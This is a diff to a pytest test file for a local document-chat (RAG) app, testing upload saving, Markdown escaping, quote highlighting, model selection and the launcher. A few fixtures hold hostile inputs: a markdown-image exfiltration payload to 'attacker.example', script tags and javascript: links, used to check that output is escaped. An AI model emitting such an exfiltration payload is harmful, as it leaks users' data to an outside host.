@@ -5,41 +5,62 @@ from __future__ import annotations
 import html
 import io
 import threading
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from pathlib import Path
 
+import markdown_it
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from pypdf import PdfReader
 
-from ingest.pipeline import FileResult, Progress
+import ui.library
+import ui.uploads
+from ingest.chunking import unwrap_lines
+from ingest.pipeline import FileResult
+from rag.answer import NO_ROOM_EN
+from rag.config import PACKAGED_LLM
+from rag.model_catalog import GgufModel
+from rag.quotes import Quote
 from rag.store import DocRecord
 from tests.fixtures_docs import pdf_bytes
+from ui import serve
 from ui.conversation import (
+    answer_kind,
     assistant_message,
     closing_stream,
     conversation_markdown,
+    generated_label,
     model_history,
+    quotes_for,
     user_message,
 )
-from ui.library import document_label, document_rows, is_inside, machine_lines
-from ui.text import escape_markdown, highlight_supporting, highlighted_markdown, unwrap_lines, where
+from ui.jobs import FileTask
+from ui.library import document_label, document_rows, is_inside, machine_lines, new_collection_error
+from ui.models import PACKAGED_LABEL, ActiveModel, ModelChoice, fit_warning, model_choices
+from ui.text import (
+    escape_markdown,
+    highlight_supporting,
+    highlighted_markdown,
+    model_label,
+    quote_markdown,
+    where,
+)
 from ui.uploads import (
-    IngestProgress,
     page_file_name,
     result_message,
     safe_upload_path,
     sanitize_filename,
     save_upload,
     single_page_pdf,
+    split_upload,
     upload_size_error,
 )
 
 
 def render(markdown: str) -> str:
-    """CommonMark plus the GFM parts Streamlit also renders (tables, strikethrough); markdown-it comes with chromadb."""
-    markdown_it = pytest.importorskip("markdown_it")
+    """CommonMark plus the GFM parts Streamlit also renders (tables, strikethrough). markdown-it-py is a pinned test
+    dependency: imported, not skipped, so these security tests can never turn into silent skips."""
     md = markdown_it.MarkdownIt("commonmark", {"linkify": False}).enable(["table", "strikethrough"])
     return md.render(markdown)
 
@@ -117,6 +138,43 @@ def test_highlight_chinese() -> None:
 def test_nothing_highlighted_for_empty_answer_or_chunk() -> None:
     assert not any(ok for _, ok in highlight_supporting(CHUNK, ""))
     assert highlight_supporting("", "teal") == []
+
+
+def test_quoted_sentences_are_highlighted_even_when_the_answer_says_nothing() -> None:
+    quote = "The citation badge colour is teal: each answer's sources are shown under it with the file name and page "
+    quote += "number."
+    parts = highlight_supporting(CHUNK, "", [quote])
+    assert [s for s, ok in parts if ok] == [
+        "Citations\nThe citation badge colour is teal: each answer's sources are shown under it with the file name "
+        "and page number."
+    ]
+    assert not any(ok for _, ok in highlight_supporting(CHUNK, "", ["Nothing like this is in the chunk."]))
+
+
+def test_a_truncated_quote_still_finds_its_sentence() -> None:
+    parts = highlight_supporting(CHUNK, "", ["The citation badge colour is teal: each answer's sources…"])
+    assert [ok for _, ok in parts] == [True, False, False]
+
+
+def test_quote_markdown_is_an_escaped_block_quote() -> None:
+    out = quote_markdown("Badge  **teal**\n![x](http://h/)")
+    assert out == "> Badge \\*\\*teal\\*\\* \\!\\[x\\]\\(http\\:\\/\\/h\\/\\)".replace("\\/", "/")
+    rendered = render(out)
+    assert rendered.startswith("<blockquote>") and "<img" not in rendered and "<strong" not in rendered
+
+
+@pytest.mark.parametrize(
+    ("name", "label"),
+    [
+        ("SmolLM2-135M-Instruct.Q4_1.gguf", "SmolLM2-135M-Instruct"),
+        ("qwen2.5-1.5b-instruct-q4_k_m.gguf", "qwen2.5-1.5b-instruct"),
+        ("Llama-3.2-3B-Instruct-IQ3_XS.gguf", "Llama-3.2-3B-Instruct"),
+        ("echo", "echo"),
+        ("local", "local"),
+    ],
+)
+def test_model_label(name: str, label: str) -> None:
+    assert model_label(name) == label
 
 
 def test_highlighted_markdown_is_escaped_and_wrapped_per_line() -> None:
@@ -206,7 +264,7 @@ def test_safe_upload_path_stays_inside(tmp_path: Path, name: str) -> None:
     assert not path.name.startswith(".")
 
 
-def test_safe_upload_path_collisions(tmp_path: Path) -> None:
+def test_save_upload_collisions(tmp_path: Path) -> None:
     first = save_upload(tmp_path, "guide.pdf", b"one")
     assert first == tmp_path.resolve() / "guide.pdf"
     assert save_upload(tmp_path, "guide.pdf", b"one") == first  # same content: reused
@@ -230,6 +288,59 @@ def test_safe_upload_path_never_follows_a_link(tmp_path: Path) -> None:
     assert path.name == "a-2.txt" and outside.read_text() == "secret"
 
 
+def test_save_upload_streams_a_file_object(tmp_path: Path) -> None:
+    class NoWholeRead(io.BytesIO):
+        def getvalue(self) -> bytes:
+            raise AssertionError("read whole")
+
+    data = bytes(range(256)) * 20_000  # 5 MB: several copy blocks
+    path = save_upload(tmp_path, "blob.pdf", NoWholeRead(data))
+    assert path.read_bytes() == data
+    assert not list(tmp_path.glob(".part-*"))
+
+
+def test_a_name_taken_while_saving_is_never_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Two sessions upload different files named guide.pdf at the same moment: the other one claims the name between
+    our check and our write. A check-then-replace would overwrite it; the claim must move on to guide-2.pdf."""
+    original = ui.uploads._write_temp
+
+    def other_session_wins(folder: Path, content):
+        tmp = original(folder, content)
+        (folder / "guide.pdf").write_bytes(b"the other session's file")
+        return tmp
+
+    monkeypatch.setattr(ui.uploads, "_write_temp", other_session_wins)
+    path = save_upload(tmp_path, "guide.pdf", b"ours")
+    assert path.name == "guide-2.pdf" and path.read_bytes() == b"ours"
+    assert (tmp_path / "guide.pdf").read_bytes() == b"the other session's file"
+
+
+def test_simultaneous_uploads_of_one_name_keep_every_file(tmp_path: Path) -> None:
+    contents = [f"upload {i} ".encode() * 50_000 for i in range(8)]
+    start = threading.Barrier(len(contents))
+    saved: dict[int, Path] = {}
+
+    def session(i: int) -> None:
+        start.wait()
+        saved[i] = save_upload(tmp_path, "report.pdf", contents[i])
+
+    threads = [threading.Thread(target=session, args=(i,)) for i in range(len(contents))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(30)
+    assert len({p.name for p in saved.values()}) == len(contents)
+    assert all(saved[i].read_bytes() == contents[i] for i in saved)
+    assert not list(tmp_path.glob(".part-*"))
+
+
+def test_split_upload_caps_the_number_of_files(monkeypatch: pytest.MonkeyPatch) -> None:
+    assert split_upload([1, 2]) == ([1, 2], None)
+    monkeypatch.setattr(ui.uploads, "MAX_FILES_PER_UPLOAD", 2)
+    taken, message = split_upload([1, 2, 3, 4, 5])
+    assert taken == [1, 2] and message is not None and "5 files" in message and "other 3" in message
+
+
 def test_upload_size_error() -> None:
     assert upload_size_error("a.pdf", 50 * 1024 * 1024, 50) is None
     message = upload_size_error("a.pdf", 60 * 1024 * 1024, 50)
@@ -251,6 +362,12 @@ def test_upload_size_error() -> None:
         (FileResult("/d/a.xyz", "skipped", 0, "unsupported file type '.xyz'"), "warning", "unsupported"),
         (FileResult("/d/a.pdf", "failed", 0, "encrypted PDF"), "error", "a\\.pdf: encrypted PDF"),
         (FileResult("/d/a.pdf", "removed", 4), "success", "removed"),
+        (FileResult("/d/a.pdf", "cancelled", 0, "cancelled"), "warning", "a\\.pdf: cancelled, nothing of it"),
+        (
+            FileResult("/d/a.pdf", "failed", 0, "encrypted PDF; a password is needed", needs_password=True),
+            "warning",
+            "a\\.pdf: encrypted PDF; a password is needed (type it below",
+        ),
     ],
 )
 def test_result_message(result: FileResult, level: str, words: str) -> None:
@@ -258,21 +375,32 @@ def test_result_message(result: FileResult, level: str, words: str) -> None:
     assert got_level == level and words in text
 
 
+def test_result_message_of_a_requested_reingest() -> None:
+    result = FileResult("/d/a.pdf", "replaced", 3)
+    assert result_message(result, forced=True) == ("success", "a\\.pdf: re-ingested, 3 chunks")
+    assert "changed since last time" in result_message(result)[1]
+
+
 def test_result_message_escapes_names() -> None:
     _, text = result_message(FileResult("/d/[x](javascript:y).txt", "ingested", 1))
     assert "<a" not in render(text)
 
 
-def test_ingest_progress() -> None:
-    progress = IngestProgress()
-    assert progress.fraction == 0.0 and progress.label == "starting…"
-    progress.update(Progress("start", n_files=2))
-    progress.update(Progress("file", path="/d/a.pdf"))
-    progress.update(Progress("chunks", path="/d/a.pdf", n_chunks=16))
-    progress.update(Progress("chunks", path="/d/a.pdf", n_chunks=4))
-    assert progress.label == "a.pdf: 20 chunks embedded"
-    progress.update(Progress("done", path="/d/a.pdf", result=FileResult("a.pdf", "ingested", 20)))
-    assert progress.fraction == 0.5 and progress.results[0].chunks == 20
+@pytest.mark.parametrize(
+    ("task", "line", "fraction"),
+    [
+        (FileTask("/u/a.pdf", "a.pdf"), "a.pdf: queued", None),
+        (FileTask("/u/a.pdf", "a.pdf", "waiting", waiting_for="another process (pid 7)"),
+         "a.pdf: waiting for another process (pid 7) to finish writing", None),
+        (FileTask("/u/a.pdf", "a.pdf", "reading", page=3, n_pages=12, ocr=True),
+         "a.pdf: reading page 3 of 12 (OCR)", 0.25),
+        (FileTask("/u/a.pdf", "a.pdf", "reading", page=1, n_pages=4), "a.pdf: reading page 1 of 4", 0.25),
+        (FileTask("/u/a.txt", "a.txt", "reading"), "a.txt: reading…", None),
+        (FileTask("/u/a.pdf", "a.pdf", "embedding", chunks=1280), "a.pdf: embedding, 1,280 chunks so far", 1.0),
+    ],
+)  # fmt: skip
+def test_file_task_status(task: FileTask, line: str, fraction: float | None) -> None:
+    assert task.status_line() == line and task.fraction == fraction
 
 
 def test_single_page_pdf(tmp_path: Path) -> None:
@@ -295,6 +423,14 @@ def test_document_rows_and_labels() -> None:
     assert rows[0]["pages"] == 4 and rows[1]["pages"] is None and rows[0]["chunks"] == 5
     assert document_label(records["2"], records) == "A.pdf"
     assert document_label(records["1"], records) == "b.md (/a/b.md)"
+
+
+def test_new_collection_error_bounds_creation_only(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(ui.library, "MAX_COLLECTIONS", 2)
+    assert new_collection_error("new", ["a"]) is None
+    message = new_collection_error("new", ["a", "b"])
+    assert message is not None and "RAG_COLLECTION=new python -m ingest" in message
+    assert new_collection_error("b", ["a", "b"]) is None  # switching to an existing one is always fine
 
 
 def test_is_inside(tmp_path: Path) -> None:
@@ -322,6 +458,8 @@ class _Hit:
     page: int | None
     text: str
     score: float
+    relevance: float = 0.5
+    chunk_id: str = "c1"
 
 
 @dataclass
@@ -329,16 +467,24 @@ class _Answer:
     text: str
     abstained: bool
     sources: list[_Hit]
+    quotes: list[Quote] = field(default_factory=list)
+    generated: bool = True
+
+
+BADGE = "The badge is teal."
+LEAK = "![x](http://attacker.example/?q=secret)"
+MODEL_FILE = "SmolLM2-135M-Instruct.Q4_1.gguf"
 
 
 def _history() -> list[dict]:
-    text = "The badge is teal.\n<script>x</script> [l](javascript:y)"
+    text = f"{BADGE}\n<script>x</script> [l](javascript:y)"
     hit = _Hit("user-guide.pdf", "/d/user-guide.pdf", 3, text, 0.9)
+    quote = Quote(BADGE, "/d/user-guide.pdf", "user-guide.pdf", 3, "c1")
     return [
-        user_message("What colour is the badge?"),
-        assistant_message(_Answer("It is **teal** [1].", False, [hit])),
+        user_message("What colour is the **badge**?"),
+        assistant_message(_Answer(f"It is **teal** [1]. {LEAK}", False, [hit], [quote]), MODEL_FILE),
         user_message("And the moon?"),
-        assistant_message(_Answer("The documents do not contain an answer to this question.", True, [])),
+        assistant_message(_Answer("The documents do not contain an answer to this question.", True, [], [], False)),
     ]
 
 
@@ -348,23 +494,48 @@ def test_assistant_message_is_plain_data() -> None:
         "file_name": "user-guide.pdf",
         "source": "/d/user-guide.pdf",
         "page": 3,
+        "chunk_id": "c1",
         "text": "The badge is teal.\n<script>x</script> [l](javascript:y)",
         "score": 0.9,
+        "relevance": 0.5,
     }
+    assert message["quotes"] == [
+        {"text": BADGE, "source": "/d/user-guide.pdf", "file_name": "user-guide.pdf", "page": 3, "chunk_id": "c1"}
+    ]
+    assert message["kind"] == "generated" and message["model"] == "SmolLM2-135M-Instruct"
+    assert generated_label(message) == "Generated answer (SmolLM2-135M-Instruct)"
+    assert quotes_for(message, message["sources"][0]) == [BADGE]
+    assert quotes_for(message, {**message["sources"][0], "chunk_id": "other"}) == []
     assert model_history(_history()) == [{"role": m["role"], "content": m["content"]} for m in _history()]
 
 
-def test_conversation_markdown() -> None:
+@pytest.mark.parametrize(
+    ("answer", "kind"),
+    [
+        (_Answer("x", False, [], generated=True), "generated"),
+        (_Answer("", False, [], generated=False), "quotes"),
+        (_Answer("The documents do not contain an answer to this question.", True, [], generated=False), "abstained"),
+        (_Answer(NO_ROOM_EN, True, [], [Quote("q", "s", "f", 1, "c")], generated=False), "no_room"),
+    ],
+)
+def test_answer_kind(answer: _Answer, kind: str) -> None:
+    assert answer_kind(answer) == kind
+
+
+def test_conversation_markdown_keeps_quotes_and_escapes_everything_it_did_not_write() -> None:
     out = conversation_markdown(_history())
     assert out.startswith("# DocChat conversation\n")
-    assert "## Question 1\n\nWhat colour is the badge?" in out and "## Question 2" in out
-    assert "It is **teal** [1]." in out
-    assert "[1] user\\-guide\\.pdf, page 3" in out
-    assert "> The badge is teal\\." in out
+    assert "## Question 1\n\nWhat colour is the \\*\\*badge\\*\\*?" in out and "## Question 2" in out
+    quoted = out.index("> The badge is teal\\.")
+    generated = out.index("#### Generated answer \\(SmolLM2\\-135M\\-Instruct\\)")
+    assert quoted < out.index("user\\-guide\\.pdf, page 3") < generated  # the quote and its place come first
+    assert escape_markdown(LEAK) in out and LEAK not in out
+    assert "\\[1\\] user\\-guide\\.pdf, page 3" in out
     assert "relevant enough" in out
     rendered = render(out)
-    assert "<script" not in rendered and 'href="javascript' not in rendered
-    assert "<strong>teal</strong>" in rendered  # the answer's own Markdown is kept
+    for tag in ("<script", 'href="javascript', "<img", "<strong", 'href="http'):
+        assert tag not in rendered
+    assert "It is **teal** [1]. ![x](http://attacker.example/?q=secret)" in rendered  # shown as the model wrote it
     assert conversation_markdown([]) == "# DocChat conversation\n"
 
 
@@ -390,3 +561,85 @@ def test_closing_stream_releases_the_model_lock_when_abandoned() -> None:
     pieces.close()
     assert not model.lock.locked()
     assert answer.text == "a"
+
+
+# ------------------------------------------------------------------------------------------------ model switch
+def _gguf(path: str, source: str = "models-dir", kind: str = "chat", size: int = 10**9) -> GgufModel:
+    return GgufModel(Path(path), Path(path).name, source, size, "llama", 10**9, "Q4_K_M", 4096, True, kind, 1000)
+
+
+def test_model_choices(tmp_path: Path) -> None:
+    packaged = tmp_path / "pkg" / "smol.gguf"
+    models = [
+        _gguf(str(packaged), "packaged"),
+        _gguf("/m/qwen.gguf"),
+        _gguf("/m/embed.gguf", kind="embedding"),
+        _gguf("/m/llama.gguf"),
+    ]
+    choices = model_choices(models, PACKAGED_LLM, packaged)
+    assert [c.setting for c in choices] == [PACKAGED_LLM, "/m/qwen.gguf", "/m/llama.gguf"]
+    assert choices[0].label == PACKAGED_LABEL and choices[0].model is models[0]
+    assert choices[1].label == "qwen.gguf (1.0B, Q4_K_M, 1.0 GB)"  # the catalog's own label
+    # A model named by RAG_LLM_MODEL stays selectable, listed or not.
+    assert [c.label for c in model_choices(models, "/m/llama.gguf", packaged)][2].endswith("(RAG_LLM_MODEL)")
+    custom = model_choices(models, "/elsewhere/mine.gguf", packaged)
+    assert custom[1] == ModelChoice("/elsewhere/mine.gguf", "/elsewhere/mine.gguf (RAG_LLM_MODEL)")
+
+
+def test_fit_warning_only_when_it_will_not_fit() -> None:
+    model = _gguf("/m/qwen.gguf")
+    assert fit_warning(ModelChoice("x", "x", model), 4096, lambda m, n: (True, "fine")) is None
+    assert fit_warning(ModelChoice("x", "x", model), 4096, lambda m, n: (False, f"{m.name} will not fit")) == (
+        "qwen.gguf will not fit"
+    )
+    assert fit_warning(ModelChoice("x", "x", None), 4096, lambda m, n: (False, "never asked")) is None
+
+
+def test_active_model_is_shared_and_switchable() -> None:
+    active = ActiveModel(PACKAGED_LLM)
+    assert active.setting == PACKAGED_LLM and not active.switch(PACKAGED_LLM)
+    assert active.switch("/m/qwen.gguf") and active.setting == "/m/qwen.gguf" and active.configured == PACKAGED_LLM
+
+
+# ------------------------------------------------------------------------------------------------ launcher
+def test_launcher_passes_the_upload_limit_and_binds_locally() -> None:
+    args = serve.streamlit_args(37, 8600, ["--server.headless", "true"])
+    assert args[:2] == ["run", str(serve.APP)]
+    options = dict(zip(args[2::2], args[3::2], strict=True))
+    assert options == {
+        "--server.address": "127.0.0.1",
+        "--server.port": "8600",
+        "--server.maxUploadSize": "37",
+        "--browser.gatherUsageStats": "false",
+        "--server.headless": "true",
+    }
+
+
+def test_launcher_reads_the_settings_and_runs_streamlit(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rag_env: None
+) -> None:
+    from streamlit.web import cli
+
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / ".env").write_text("RAG_MAX_UPLOAD_MB=12\n")  # .env counts, like everywhere else
+    calls: list[list[str]] = []
+    monkeypatch.setattr(cli, "main", lambda args, **kwargs: calls.append(args))
+    assert serve.main(["--port", "8777", "--", "--server.headless", "true"]) == 0
+    options = dict(zip(calls[0][2::2], calls[0][3::2], strict=True))
+    assert options["--server.maxUploadSize"] == "12" and options["--server.port"] == "8777"
+    assert options["--server.headless"] == "true"
+
+
+def test_launcher_refuses_a_bad_setting(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rag_env: None, capsys: pytest.CaptureFixture
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("RAG_MAX_UPLOAD_MB", "0")
+    assert serve.main([]) == 2
+    assert "RAG_MAX_UPLOAD_MB" in capsys.readouterr().err
+
+
+def test_upload_limit_warning() -> None:
+    assert serve.upload_limit_warning(50, 50) is None
+    message = serve.upload_limit_warning(200, 50)
+    assert message is not None and "200 MB" in message and "RAG_MAX_UPLOAD_MB is 50 MB" in message
